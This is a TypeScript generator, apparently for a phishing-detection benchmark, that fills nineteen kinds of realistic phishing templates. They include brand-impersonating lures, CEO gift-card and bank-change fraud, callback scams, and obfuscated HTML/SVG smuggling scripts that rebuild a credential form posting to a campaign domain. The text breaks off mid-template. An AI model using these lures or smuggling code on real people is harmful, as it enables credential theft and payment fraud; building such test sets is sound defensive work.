// The unseen phishing set: phishing written after what campaigns of 2023–2026 send, as CERTs' and security
// vendors' public write-ups describe them, by someone who had not read the desk's analysers and did not
// run them on it while writing: it measures how the analysers fare on mail nobody tuned them against.
// Nineteen kinds, two templates each, every template filled from a seed (names, brands, domains, numbers,
// wording). Authentication: a message from a compromised small business carries its receiving MTA's
// Authentication-Results with SPF, DKIM and DMARC passing, a spoof of a brand's own domain carries them
// failing, a message from a domain the campaign registered carries SPF none; the benchmark trusts no
// authserv-id and its DNS holds no records, so there every message is unauthenticated, as judges.ts says.
import { domainToASCII } from 'node:url';
import type { SeededRandom } from './generate.js';
import { type Draft, mimeMessage, type Part } from './mime.js';
import { qrJpeg, qrPng } from './payloads.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

export const UNSEEN_KINDS = [
  'voicemail-fax',
  'e-signature',
  'collaboration-share',
  'sign-in-alert',
  'payroll-hr',
  'callback',
  'gift-card',
  'vendor-bank-change',
  'invoice-pdf',
  'html-svg-smuggling',
  'protected-archive',
  'open-redirect',
  'cloud-hosting',
  'calendar-invite',
  'homoglyph-punycode',
  'tax-refund',
  'parcel-customs',
  'crypto',
  'account-suspension',
] as const;
export type UnseenKind = (typeof UNSEEN_KINDS)[number];

export interface UnseenMessage {
  raw: string;
  kind: string;
  /** Template name, kind:index. */
  template: string;
}

/** What a template is filled with. */
interface Fill {
  random: SeededRandom;
  n: number;
  /** Someone at the victim's company, corp.example. */
  person: { first: string; last: string };
  /** The company's chief executive, whom a campaign impersonates. */
  executive: string;
  /** A small business whose mailbox the campaign took over: its mail passes SPF, DKIM and DMARC. */
  compromised: string;
  /** A domain the campaign registered. */
  registered: string;
  /** A page on a free hosting or storage service. */
  hosted: string;
  phone: string;
  amount: string;
  /** A reference number. */
  ref: string;
}

interface Template {
  kind: UnseenKind;
  make(f: Fill): Promise<Omit<Draft, 'number'>> | Omit<Draft, 'number'>;
}

const FIRST = ['Hannah', 'Marco', 'Aisha', 'Pieter', 'Chloe', 'Ravi', 'Ingrid', 'Samuel', 'Yuki', 'Fatima'];
const LAST = ['Okafor', 'Schmidt', 'Moreau', 'Kowalski', 'Andersson', 'Haddad', 'Silva', 'Brennan', 'Tanaka'];
const SMALL_BUSINESS = [
  'pinecrest-hoa.org',
  'harborviewdental.com',
  'mcallister-law.com',
  'riverbendautos.net',
  'summitcpa-group.com',
  'oakridge-montessori.org',
  'brightpath-logistics.co.uk',
];
const LURE_WORDS = ['secure', 'verify', 'account', 'docs', 'login', 'portal', 'auth', 'review', 'support'];
const LURE_TLDS = ['com', 'net', 'online', 'live', 'top', 'icu', 'shop', 'click', 'cfd', 'sbs'];
const HOSTS = [
  (id: string) => `https://${id}.${id.slice(-4)}x.workers.dev/`,
  (id: string) => `https://${id}.pages.dev/`,
  (id: string) => `https://pub-${id.padEnd(32, '0')}.r2.dev/index.html`,
  (id: string) => `https://${id}.web.app/`,
  (id: string) => `https://${id}.firebaseapp.com/__/auth/`,
  (id: string) => `https://ipfs.io/ipfs/bafybei${id.replace(/-/g, '')}q3xkzj7m/login.html`,
  (id: string) => `https://bafybei${id.replace(/-/g, '')}w5tq.ipfs.dweb.link/`,
];
const FREEMAIL = ['gmail.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'proton.me'];

const hex = (n: number, len: number) =>
  ((n * 2654435761) >>> 0).toString(16).padStart(8, '0').repeat(4).slice(0, len);
const address = (p: { first: string; last: string }) => `${p.first.toLowerCase()}.${p.last.toLowerCase()}`;

/** The receiving MTA's stamp: SPF, DKIM and DMARC as they came out for the sending domain. */
export function stamp(result: 'pass' | 'fail' | 'none', domain: string): string {
  if (result === 'pass')
    return `Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=${domain}; dkim=pass header.d=${domain}; dmarc=pass header.from=${domain}`;
  if (result === 'fail')
    return `Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=${domain}; dkim=none; dmarc=fail (p=reject) header.from=${domain}`;
  return `Authentication-Results: mx.corp.example; spf=none smtp.mailfrom=${domain}; dkim=none; dmarc=none header.from=${domain}`;
}

const html = (body: string) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Calibri,Helvetica,sans-serif;font-size:14px">${body}</body></html>`;
const cta = (href: string, text: string, colour = '#2b579a') =>
  `<table role="presentation"><tr><td style="background:${colour};border-radius:3px;padding:11px 24px"><a href="${href}" style="color:#ffffff;text-decoration:none;font-weight:600">${text}</a></td></tr></table>`;
const file = (type: string, name: string, content: Buffer): Part => ({ type, name, content });
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** A login page of `brand` that posts to `action`, as HTML smuggling rebuilds it. */
const loginPage = (brand: string, action: string) =>
  `<html><head><title>${brand} - Sign in</title></head><body><div class="box"><h2>Sign in</h2><p>Because you're accessing sensitive info, you need to verify your password.</p><form method="POST" action="${action}"><input type="email" name="login" value="staff@corp.example"><input type="password" name="passwd" placeholder="Password"><button type="submit">Sign in</button></form></div></body></html>`;

const TEMPLATES: Template[] = [
  // voicemail-fax: a missed call or fax, the recording behind a link or an attached HTML "player"
  {
    kind: 'voicemail-fax',
    make: (f) => {
      const seconds = 17 + (f.n % 50);
      return {
        headers: [`From: "VM-Notification" <voice@${f.registered}>`, stamp('none', f.registered)],
        subject: f.random.pick([
          `Voice Message Received from ${f.phone} - 00:00:${seconds}`,
          `[Missed Call] New voicemail for staff ${f.ref}`,
          `You have 1 new voice message (${seconds} sec)`,
        ]),
        html: html(
          `<p><b>Caller:</b> ${f.phone}<br><b>Received:</b> Monday, November 2, 2026 8:${10 + (f.n % 49)} AM<br><b>Duration:</b> 00:00:${seconds}<br><b>Mailbox:</b> staff@corp.example</p>${cta(`${f.hosted}?vm=${f.ref}#c3RhZmZAY29ycC5leGFtcGxl`, '&#9654; Listen to Voicemail')}<p style="color:#777;font-size:11px">This message was sent by the corp.example Unified Messaging system.</p>`,
        ),
      };
    },
  },
  {
    kind: 'voicemail-fax',
    make: (f) => {
      const pages = 2 + (f.n % 5);
      const script = `var u="${b64(loginPage('Microsoft', `https://${f.registered}/fax/next.php`))}";document.open();document.write(atob(u));document.close();`;
      return {
        headers: [`From: "eFax Corporate" <message@${f.compromised}>`, stamp('pass', f.compromised)],
        subject: `eFax message from "${f.phone}" - ${pages} page(s), Caller-ID: ${f.phone}`,
        text: `Fax Message [Caller-ID: ${f.phone}]\n\nYou have received a ${pages} page fax at ${f.random.pick(['8:14', '9:02', '11:47'])} AM.\n\nThe fax is attached to this email. Open the attachment in your browser to view it.\n\nThank you for using eFax Corporate.`,
        parts: [
          file(
            'text/html',
            `Fax_${f.ref}_${pages}pages.htm`,
            Buffer.from(
              `<html><head><meta charset="utf-8"><title>Fax Viewer</title></head><body><script>${script}</script></body></html>`,
            ),
          ),
        ],
      };
    },
  },
  // e-signature: DocuSign and Adobe Acrobat Sign lookalikes
  {
    kind: 'e-signature',
    make: (f) => ({
      headers: [
        `From: "${f.person.first} ${f.person.last} via Docusign" <dse_na4@${f.registered}>`,
        `Reply-To: ${address(f.person)}@${f.random.pick(FREEMAIL)}`,
        stamp('none', f.registered),
      ],
      subject: f.random.pick([
        `Complete with Docusign: ${f.random.pick(['Q4_Compensation_Review', 'Severance_Agreement', 'NDA_Amendment'])}_${f.ref}.pdf`,
        `${f.person.first} ${f.person.last} sent you a document to review and sign`,
      ]),
      html: html(
        `<div style="background:#1e4ca1;color:#fff;padding:24px;text-align:center"><p style="font-size:18px">${f.person.first} ${f.person.last} sent you a document to review and sign.</p>${cta(`https://${f.registered}/Signing/EmailStart.aspx?a=${hex(f.n, 32)}&acct=${hex(f.n + 7, 8)}`, 'REVIEW DOCUMENT', '#ffc820')}</div><p>${f.person.first} ${f.person.last}<br>${address(f.person)}@corp.example</p><p>Please review and sign at your earliest convenience.</p><p style="font-size:11px;color:#666">Do Not Share This Email: this email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>`,
      ),
    }),
  },
  {
    kind: 'e-signature',
    make: (f) => ({
      headers: [`From: "Adobe Acrobat Sign" <adobesign@${f.compromised}>`, stamp('pass', f.compromised)],
      subject: f.random.pick([
        `Signature requested on "Payment_Remittance_${f.ref}"`,
        `You're invited to sign: Contract_Renewal_${f.ref}.pdf`,
      ]),
      html: html(
        `<p><img src="https://acrobat.adobe.com/dc-assets/logo.png" alt="Adobe Acrobat Sign" width="120"></p><p>${f.compromised.split('.')[0].replace(/-/g, ' ')} has sent you <b>Payment_Remittance_${f.ref}</b> to sign.</p>${cta(f.hosted, 'Review and sign', '#1473e6')}<p>After you sign, all parties will receive a final PDF copy by email.</p><p style="font-size:11px">Powered by Adobe Acrobat Sign</p>`,
      ),
    }),
  },
  // collaboration-share: SharePoint, OneDrive, Teams and Slack notifications
  {
    kind: 'collaboration-share',
    make: (f) => {
      const doc = f.random.pick([
        '2026 Salary Adjustments.xlsx',
        'Board Minutes - Nov.docx',
        'Benefits Enrollment 2027.pdf',
      ]);
      return {
        headers: [
          `From: "${f.person.first} ${f.person.last} (via SharePoint Online)" <no-reply@${f.compromised}>`,
          stamp('pass', f.compromised),
        ],
        subject: `${f.person.first} ${f.person.last} shared "${doc}" with you`,
        html: html(
          `<p>${f.person.first} ${f.person.last} shared a file with you</p><p style="font-size:16px">&#128196; <b>${doc}</b></p><p>"Please review before Friday and let me know your thoughts."</p>${cta(`https://${f.registered}/sites/corp/Shared%20Documents/${encodeURIComponent(doc)}?web=1&e=${f.ref}`, 'Open')}<p style="font-size:11px;color:#666">This link will work for anyone in corp.example. <a href="https://www.microsoft.com/privacy">Privacy Statement</a></p>`,
        ),
      };
    },
  },
  {
    kind: 'collaboration-share',
    make: (f) => {
      const app = f.random.pick(['Microsoft Teams', 'Slack']);
      return {
        headers: [`From: "${app}" <notifications@${f.registered}>`, stamp('none', f.registered)],
        subject: `You have ${3 + (f.n % 7)} unread messages in ${app}`,
        html: html(
          `<p>Hi,</p><p>Your teammates are trying to reach you in ${app}.</p><p><b>${f.person.first} ${f.person.last}</b>: "hey, can you look at the file I sent? it's urgent, the client is waiting"</p>${cta(f.hosted, `Reply in ${app}`, '#464eb8')}<p style="font-size:11px;color:#666">You are receiving this email because you have unread activity. ${app === 'Slack' ? 'Slack Technologies, LLC' : 'Microsoft Corporation, One Microsoft Way, Redmond, WA'}</p>`,
        ),
      };
    },
  },
  // sign-in-alert: unusual sign-in, MFA re-registration (QR code), password expiry
  {
    kind: 'sign-in-alert',
    make: async (f) => ({
      headers: [
        `From: "Microsoft account team" <account-security-noreply@${f.registered}>`,
        stamp('none', f.registered),
      ],
      subject: f.random.pick([
        'Microsoft account unusual sign-in activity',
        'Action Required: Re-Register MFA',
        'Your Authenticator registration expires today',
      ]),
      html: html(
        `<p>We detected something unusual about a recent sign-in to the Microsoft account <b>st*****@corp.example</b>.</p><p>Country/region: ${f.random.pick(['Russia/Moscow', 'Nigeria/Lagos', 'Brazil/São Paulo', 'Vietnam/Hanoi'])}<br>IP address: 185.${f.n % 250}.${(f.n * 7) % 250}.${(f.n * 13) % 250}<br>Date: 11/2/2026 3:${10 + (f.n % 49)} AM (GMT)</p><p>To keep your account, re-register your authenticator: scan the code below with your phone's camera.</p><p><img src="cid:authenticator.png" width="180" alt="QR"></p><p>Thanks,<br>The Microsoft account team</p>`,
      ),
      parts: [
        {
          ...file(
            'image/png',
            'authenticator.png',
            await qrPng(`${f.hosted}?mfa=${f.ref}&u=c3RhZmZAY29ycC5leGFtcGxl`),
          ),
          inline: true,
        },
      ],
    }),
  },
  {
    kind: 'sign-in-alert',
    make: (f) => {
      const days = f.random.pick(['today', 'in 24 hours', 'in 2 days']);
      return {
        headers: [
          `From: "IT Service Desk" <it-servicedesk@${f.compromised}>`,
          'Reply-To: it-servicedesk@corp.example',
          stamp('pass', f.compromised),
        ],
        subject: f.random.pick([
          `Password Expiry Notice: staff@corp.example expires ${days}`,
          'Your password will expire - keep current password',
        ]),
        text: `Dear staff,\n\nThe password for staff@corp.example will expire ${days}. To keep using your current password and avoid losing access to email, Teams and VPN, confirm it with the link below:\n\n${f.hosted}?keep=1&id=${f.ref}\n\nIf you do not act, your account will be locked and you will need to contact the service desk.\n\nRegards,\nIT Service Desk\ncorp.example`,
      };
    },
  },
  // payroll-hr: direct-deposit change, a bonus or policy document
  {
    kind: 'payroll-hr',
    make: (f) => ({
      headers: [
        `From: "${f.person.first} ${f.person.last}" <${address(f.person)}.${f.n % 90}@${f.random.pick(FREEMAIL)}>`,
      ],
      subject: f.random.pick([
        'Direct deposit update',
        'Payroll - change of bank',
        'Update my account before payday',
      ]),
      text: `Hi,\n\nI changed my bank and I need to update my direct deposit information for the next payroll. What information do you need from me? Can it be done before the ${f.random.pick(['15th', '25th', 'end of the month'])}?\n\nThanks\n${f.person.first} ${f.person.last}\n\nSent from my iPhone`,
    }),
  },
  {
    kind: 'payroll-hr',
    make: (f) => ({
      headers: [`From: "HR Department" <hr@${f.registered}>`, stamp('none', f.registered)],
      subject: f.random.pick([
        `Q4 ${2026} Bonus and Salary Increment Letter - staff`,
        'Employee Handbook 2027 - signature required',
        'Annual Performance Bonus Distribution',
      ]),
      html: html(
        `<p>Dear Employee,</p><p>The compensation committee has approved the year-end performance bonus. Your personal letter, including the amount and the payment date, is ready.</p><p>Please sign in with your corporate email to view and acknowledge it by <b>${f.random.pick(['Wednesday', 'Thursday', 'Friday'])}</b>:</p>${cta(`https://${f.registered}/hr/bonus/${f.ref}?email=staff%40corp.example`, 'View Bonus Letter')}<p>Human Resources<br>corp.example</p>`,
      ),
    }),
  },
  // callback: no link, a phone number and a charge nobody made
  {
    kind: 'callback',
    make: (f) => {
      const product = f.random.pick([
        'Norton 360 Deluxe',
        'McAfee Total Protection',
        'Geek Squad Total Tech Support',
        'PayPal Crypto Purchase',
      ]);
      return {
        headers: [
          `From: "Billing Department" <${f.random.pick(['billing', 'orders', 'renewals'])}${f.n % 97}@${f.random.pick(FREEMAIL)}>`,
        ],
        subject: f.random.pick([
          `Your Order #${f.ref} has been processed`,
          `Subscription renewed - Invoice ${f.ref}`,
          'Payment Confirmation',
        ]),
        text: `Dear Customer,\n\nThank you for renewing your ${product} subscription. Your account has been charged ${f.amount} and the renewal is valid for 3 years.\n\nInvoice number: ${f.ref}\nProduct: ${product}\nAmount: ${f.amount}\nPayment method: Auto-debit\n\nIf you did not authorise this renewal or wish to cancel and receive a refund, call our billing department within 24 hours at ${f.phone}.\n\nRegards,\nBilling Department`,
      };
    },
  },
  {
    kind: 'callback',
    make: (f) => ({
      headers: [`From: "Customer Service" <service${f.n % 50}@${f.random.pick(FREEMAIL)}>`],
      subject: f.random.pick(['Purchase receipt attached', `Receipt for ${f.amount}`]),
      text: 'Hello,\n\nPlease find your purchase receipt attached. For any questions about this charge call the number in the receipt.\n\nThank you.',
      parts: [
        file(
          'application/pdf',
          `Receipt_${f.ref}.pdf`,
          onePagePdf([
            'PAYMENT RECEIPT',
            `Invoice: ${f.ref}   Date: 02 Nov 2026`,
            `${f.random.pick(['Windows Defender Firewall Pro', 'Best Buy Geek Squad', 'Coinbase Gold'])} - 1 year`,
            `Total charged: ${f.amount}`,
            `Not you? To cancel and get a refund call toll free ${f.phone}`,
          ]),
        ),
      ],
    }),
  },
  // gift-card: the chief executive, from a private address, needs gift cards
  {
    kind: 'gift-card',
    make: (f) => ({
      headers: [
        `From: "${f.executive}" <${f.executive.toLowerCase().replace(' ', '')}.office@${f.random.pick(FREEMAIL)}>`,
      ],
      subject: f.random.pick(['Quick favor', 'Are you available?', 'Request', 'Urgent task']),
      text: `${f.person.first},\n\nAre you available? I need you to handle a task for me discreetly. I'm tied up in a conference and can't talk on the phone right now. Let me know.\n\n${f.executive}\nSent from my iPad`,
    }),
  },
  {
    kind: 'gift-card',
    make: (f) => {
      const card = f.random.pick(['Apple', 'Google Play', 'Amazon', 'Steam', 'Visa Vanilla']);
      const count = 4 + (f.n % 6);
      return {
        headers: [
          `From: "${f.executive}" <ceo.${f.n % 100}@${f.random.pick(FREEMAIL)}>`,
          `Reply-To: ${f.executive.split(' ')[0].toLowerCase()}.exec@${f.random.pick(FREEMAIL)}`,
        ],
        subject: `Re: ${f.random.pick(['Quick favor', 'Task', 'Surprise for the team'])}`,
        text: `Thanks. I want to surprise some of the staff with gift cards as appreciation for their hard work. I need ${count} ${card} gift cards, $100 each. Get them from any store nearby, scratch the back and send me pictures of the codes. I will reimburse you by end of day. Keep it between us for now, it's a surprise.\n\n${f.executive}\nChief Executive Officer`,
      };
    },
  },
  // vendor-bank-change: a supplier's mailbox taken over, or a lookalike of it, moves the payments
  {
    kind: 'vendor-bank-change',
    make: (f) => {
      const vendor = f.compromised.split('.')[0];
      return {
        headers: [
          `From: "Accounts Receivable" <accounts@${f.compromised}>`,
          `Reply-To: accounts@${vendor}-ltd.${f.random.pick(['com', 'co', 'net'])}`,
          stamp('pass', f.compromised),
        ],
        subject: f.random.pick([
          'Updated banking details',
          'Change of remittance account - effective immediately',
          `RE: Invoice ${f.ref} payment`,
        ]),
        text: `Good morning,\n\nPlease be informed that due to an ongoing audit our company has changed its bank. All outstanding and future payments, including invoice ${f.ref} (${f.amount}), should be made to the new account below:\n\nBank: ${f.random.pick(['Metro Bank', 'Citizens Bank', 'Banco Santander'])}\nAccount name: ${vendor.replace(/-/g, ' ')}\nIBAN: GB${10 + (f.n % 89)} MTBK ${2000 + (f.n % 7999)} ${String(10_000_000 + f.n * 37).slice(0, 8)}\n\nPlease confirm once the record has been updated and do not use the old account. We cannot take calls at the moment due to the audit; email is best.\n\nKind regards,\nAccounts Receivable`,
      };
    },
  },
  {
    kind: 'vendor-bank-change',
    make: (f) => {
      const vendor = f.compromised.split('.')[0];
      const lookalike = `${vendor.replace(/o/, '0').replace(/l/, 'I')}.com`;
      return {
        headers: [
          `From: "${f.person.first} ${f.person.last}" <${f.person.first.toLowerCase()}@${lookalike}>`,
          stamp('none', lookalike),
        ],
        subject: `New remittance details - letter attached`,
        text: `Hello,\n\nAttached is our signed letter with the new bank account details for remittance. Kindly update your vendor master file before the next payment run and confirm by return email.\n\nBest regards,\n${f.person.first} ${f.person.last}\nFinance Manager`,
        parts: [
          file(
            'application/pdf',
            'Bank_Change_Letter.pdf',
            onePagePdf([
              'NOTICE OF CHANGE OF BANK ACCOUNT',
              'With effect from 1 November 2026 all payments are to be made to:',
              `Account: ${vendor} Holdings   IBAN: DE${10 + (f.n % 89)} 5001 0517 ${String(1e9 + f.n * 53).slice(0, 10)}`,
              'Signed: Finance Manager',
            ]),
          ),
        ],
      };
    },
  },
  // invoice-pdf: the link or a QR code is inside an attached PDF
  {
    kind: 'invoice-pdf',
    make: (f) => ({
      headers: [
        `From: "${f.compromised.split('.')[0]} billing" <invoice@${f.compromised}>`,
        stamp('pass', f.compromised),
      ],
      subject: f.random.pick([
        `Invoice ${f.ref} from ${f.compromised}`,
        `Overdue payment reminder - INV-${f.ref}`,
        'Statement of account',
      ]),
      text: `Hello,\n\nPlease see the attached invoice ${f.ref} for ${f.amount}. Payment is due within 7 days.\n\nThank you for your business.`,
      parts: [
        file(
          'application/pdf',
          `INV-${f.ref}.pdf`,
          onePagePdf(
            [
              `INVOICE INV-${f.ref}`,
              `Amount due: ${f.amount}`,
              'This document is protected. Click below to view the full invoice.',
              'VIEW SECURE DOCUMENT',
            ],
            { link: f.hosted },
          ),
        ),
      ],
    }),
  },
  {
    kind: 'invoice-pdf',
    make: async (f) => ({
      headers: [`From: "Accounts Payable" <ap@${f.registered}>`, stamp('none', f.registered)],
      subject: f.random.pick(['Payment advice - please scan to confirm', `Remittance advice ${f.ref}`]),
      text: `Hi,\n\nA payment of ${f.amount} has been released to your account. See the remittance advice attached and scan the code with your mobile device to confirm receipt.\n\nAccounts Payable`,
      parts: [
        file(
          'application/pdf',
          `Remittance_${f.ref}.pdf`,
          onePagePdf(
            [
              'REMITTANCE ADVICE',
              `Reference ${f.ref}  Amount ${f.amount}`,
              'Scan the QR code with your phone to view the payment.',
            ],
            {
              jpeg: await qrJpeg(`https://${f.registered}/r/${f.ref}?e=staff@corp.example`),
            },
          ),
        ),
      ],
    }),
  },
  // html-svg-smuggling: an attachment that builds the login page in the browser
  {
    kind: 'html-svg-smuggling',
    make: (f) => {
      const page = loginPage('Office 365', `https://${f.registered}/next.php`);
      const chunks = b64(page).match(/.{1,60}/g) ?? [];
      const script = `var _0x${hex(f.n, 4)}=[${chunks.map((c) => `'${c}'`).join(',')}];var d=window['at'+'ob'](_0x${hex(f.n, 4)}.join(''));document['wr'+'ite'](d);`;
      return {
        headers: [`From: "Payroll" <payroll@${f.compromised}>`, stamp('pass', f.compromised)],
        subject: f.random.pick([
          'Payment Remittance Advice',
          `Your payslip for November (${f.ref})`,
          'Scanned document',
        ]),
        text: 'Please find the attached document. Open it in your browser to view.\n',
        parts: [
          file(
            'text/html',
            `${f.random.pick(['Remittance', 'Payslip', 'Scan'])}_${f.ref}.html`,
            Buffer.from(
              `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><script>${script}</script></body></html>`,
            ),
          ),
        ],
      };
    },
  },
  {
    kind: 'html-svg-smuggling',
    make: (f) => {
      const target = b64(`${f.hosted}#staff@corp.example`);
      const svg = `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="20" y="40">Loading document...</text><script type="text/javascript"><![CDATA[\nvar t = "${target}";\nwindow.location.href = atob(t);\n]]></script></svg>`;
      return {
        headers: [`From: "Shared Documents" <docs@${f.registered}>`, stamp('none', f.registered)],
        subject: f.random.pick([
          `Purchase Order PO-${f.ref}`,
          'Signed contract - please review',
          'Audio message attached',
        ]),
        html: html('<p>Hello,</p><p>Please review the attached file and confirm.</p><p>Regards</p>'),
        parts: [file('image/svg+xml', `PO-${f.ref}.svg`, Buffer.from(svg))],
      };
    },
  },
  // protected-archive: the password in the body, so that the filter cannot look inside
  {
    kind: 'protected-archive',
    make: (f) => {
      const password = f.random.pick(['2026', 'inv2026', `${f.n % 10_000}`, 'Secure123']);
      return {
        headers: [
          `From: "${f.person.first} ${f.person.last}" <${f.person.first.toLowerCase()}@${f.compromised}>`,
          stamp('pass', f.compromised),
        ],
        subject: f.random.pick([`RE: RE: Invoice ${f.ref}`, 'Documents you requested', 'Updated quotation']),
        text: `Hi,\n\nAs requested, the documents are attached. The archive is protected for confidentiality.\n\nPassword: ${password}\n\nRegards,\n${f.person.first}`,
        parts: [file('application/zip', `Docs_${f.ref}.zip`, protectedZip(`Invoice_${f.ref}.pdf.js`, f.n))],
      };
    },
  },
  {
    kind: 'protected-archive',
    make: (f) => {
      const password = `${f.ref.slice(0, 3)}${f.n % 1000}`;
      return {
        headers: [`From: "Legal Department" <legal@${f.registered}>`, stamp('none', f.registered)],
        subject: 'Copyright infringement notice - evidence attached',
        html: html(
          `<p>Hello,</p><p>Images owned by our client are used on your company's website without a licence. The evidence is in the attached archive (password: <b>${password}</b>). Please review it and contact us within 48 hours to avoid legal action.</p><p>Legal Department</p>`,
        ),
        parts: [
          file(
            'application/zip',
            'Evidence_Images.zip',
            protectedZip('Evidence_Images_Nov2026.exe', f.n + 1),
          ),
        ],
      };
    },
  },
  // open-redirect: the link passes through a well-known site's redirector
  {
    kind: 'open-redirect',
    make: (f) => {
      const target = `https://${f.registered}/o365/?e=staff@corp.example`;
      const href = f.random.pick([
        `https://www.google.com/url?q=${encodeURIComponent(target)}&sa=D&source=editors&usg=AOvVaw${hex(f.n, 12)}`,
        `https://www.youtube.com/redirect?event=comments&q=${encodeURIComponent(target)}&redir_token=${hex(f.n, 24)}`,
        `https://www.bing.com/ck/a?!&&p=${hex(f.n, 32)}&ptn=3&u=a1${Buffer.from(target).toString('base64url')}&ntb=1`,
      ]);
      return {
        headers: [`From: "Microsoft 365" <no-reply@${f.compromised}>`, stamp('pass', f.compromised)],
        subject: f.random.pick([
          'You have (4) pending messages',
          'Message delivery failed: 3 messages held',
          'Quarantine summary',
        ]),
        html: html(
          `<p>Messages addressed to <b>staff@corp.example</b> were held and not delivered to your inbox:</p><table><tr><td>RE: Payment confirmation</td><td>11/2/2026</td></tr><tr><td>Signed contract</td><td>11/2/2026</td></tr></table>${cta(href, 'Release messages')}<p style="font-size:11px">Microsoft 365 Email Protection</p>`,
        ),
      };
    },
  },
  {
    kind: 'open-redirect',
    make: (f) => {
      const target = `${f.hosted}?${f.ref}`;
      const href = f.random.pick([
        `https://l.facebook.com/l.php?u=${encodeURIComponent(target)}&h=AT${hex(f.n, 20)}`,
        `https://duckduckgo.com/l/?uddg=${encodeURIComponent(target)}&rut=${hex(f.n, 32)}`,
        `https://t.umblr.com/redirect?z=${encodeURIComponent(target)}&t=${hex(f.n, 16)}`,
      ]);
      return {
        headers: [`From: "Amazon Business" <account-update@${f.registered}>`, stamp('none', f.registered)],
        subject: `Your Amazon Business account: payment method declined (${f.ref})`,
        html: html(
          `<p>Hello,</p><p>We were unable to charge your payment method for order ${f.ref} (${f.amount}). Your Amazon Business account will be put on hold unless you update your payment information.</p><p><a href="${href}">Update payment information</a></p><p>Sincerely,<br>Amazon Business Customer Service</p>`,
        ),
      };
    },
  },
  // cloud-hosting: the page lives on IPFS, Cloudflare (R2, Workers, Pages) or Firebase
  {
    kind: 'cloud-hosting',
    make: (f) => ({
      headers: [`From: "Webmail Admin" <admin@${f.compromised}>`, stamp('pass', f.compromised)],
      subject: f.random.pick([
        'Mailbox quota exceeded (98%)',
        'Email account verification required',
        'Webmail upgrade notice',
      ]),
      html: html(
        `<p>Dear staff@corp.example,</p><p>Your mailbox is almost full (${4.8 + (f.n % 2) / 10} GB of 5 GB). New messages may be rejected. Increase your storage at no cost:</p><p><a href="${f.hosted}#staff@corp.example">${f.hosted.replace(/^https:\/\//, '').slice(0, 40)}…</a></p><p>Webmail Administrator</p>`,
      ),
    }),
  },
  {
    kind: 'cloud-hosting',
    make: (f) => {
      const host = HOSTS[f.n % HOSTS.length](
        `${f.random.pick(['onedrive', 'docs', 'office', 'share'])}-${hex(f.n, 6)}`,
      );
      return {
        headers: [
          `From: "${f.person.first} ${f.person.last}" <${address(f.person)}@${f.random.pick(FREEMAIL)}>`,
        ],
        subject: f.random.pick(['Proposal document', 'Please see the file', 'RFQ - new project']),
        text: `Hello,\n\nI've shared the proposal with you via OneDrive. You can view it here:\n${host}\n\nThanks,\n${f.person.first} ${f.person.last}`,
      };
    },
  },
  // calendar-invite: an .ics whose description carries the link
  {
    kind: 'calendar-invite',
    make: (f) => {
      const link = `https://${f.registered}/meeting/join?id=${f.ref}`;
      return {
        headers: [
          `From: "${f.executive}" <${f.executive.toLowerCase().replace(' ', '.')}@${f.registered}>`,
          stamp('none', f.registered),
        ],
        subject: f.random.pick([
          'Invitation: Mandatory all-hands - restructuring',
          'Invitation: 2027 Compensation Review',
          'Updated invitation: Q4 Budget Approval',
        ]),
        text: `You have been invited to a meeting. Please review the agenda before joining: ${link}`,
        parts: [
          file(
            'text/calendar; method=REQUEST',
            'invite.ics',
            invitation({
              uid: `${f.ref}@${f.registered}`,
              organizer: `hr@${f.registered}`,
              attendee: 'staff@corp.example',
              summary: 'Mandatory: 2027 Compensation Review',
              description: `Please review the agenda and confirm your attendance:\n${link}\nSign in with your corporate account.`,
              location: link,
              start: '20261104T150000Z',
            }),
          ),
        ],
      };
    },
  },
  {
    kind: 'calendar-invite',
    make: (f) => ({
      headers: [`From: "Zoom" <no-reply@${f.compromised}>`, stamp('pass', f.compromised)],
      subject: `Meeting invitation: ${f.person.first} ${f.person.last} has invited you to a scheduled Zoom meeting`,
      html: html(
        `<p>${f.person.first} ${f.person.last} is inviting you to a scheduled Zoom meeting.</p><p>Topic: Contract discussion<br>Time: Nov 4, 2026 03:00 PM London</p><p>Join Zoom Meeting: <a href="${f.hosted}?zoom=${f.ref}">https://us02web.zoom.us/j/8${f.n}${f.n % 1000}</a></p>`,
      ),
      parts: [
        file(
          'text/calendar; method=REQUEST',
          'meeting.ics',
          invitation({
            uid: `zoom-${f.ref}`,
            organizer: `meetings@${f.compromised}`,
            attendee: 'staff@corp.example',
            summary: 'Contract discussion',
            description: `Join Zoom Meeting\n${f.hosted}?zoom=${f.ref}`,
            location: `${f.hosted}?zoom=${f.ref}`,
            start: '20261104T150000Z',
          }),
        ),
      ],
    }),
  },
  // homoglyph-punycode: a sender or a link whose domain looks like a brand's letter for letter
  {
    kind: 'homoglyph-punycode',
    make: (f) => {
      const brand = f.random.pick([
        ['Microsoft', 'micros\u043eft-online.com'],
        ['Okta', '\u043ekta-sso.com'],
        ['Coinbase', 'c\u043einbase.com'],
        ['DocuSign', 'docu\u0455ign.net'],
      ]);
      return {
        // Written in Unicode (an SMTPUTF8 sender) or as the punycode a gateway shows
        headers: [
          `From: "${brand[0]}" <security@${f.n % 2 === 0 ? brand[1] : domainToASCII(brand[1])}>`,
          stamp('none', domainToASCII(brand[1])),
        ],
        subject: `${brand[0]}: verify your identity to continue`,
        html: html(
          `<p>We need to confirm it's really you. Verify your identity within 24 hours to avoid interruption of your ${brand[0]} account.</p>${cta(`https://${domainToASCII(brand[1])}/verify?u=${f.ref}`, 'Verify identity')}<p>${brand[0]} Security</p>`,
        ),
      };
    },
  },
  {
    kind: 'homoglyph-punycode',
    make: (f) => {
      const bank = f.random.pick([
        ['Chase', 'chas\u0435.com'],
        ['Wells Fargo', 'wellsfarg\u043e.com'],
        ['Barclays', 'barcl\u0430ys.co.uk'],
      ]);
      const url = `https://www.${bank[1]}/secure/${f.ref}`;
      return {
        headers: [`From: "${bank[0]} Online Banking" <alerts@${f.registered}>`, stamp('none', f.registered)],
        subject: f.random.pick(['A new payee was added to your account', 'Unusual transfer request blocked']),
        html: html(
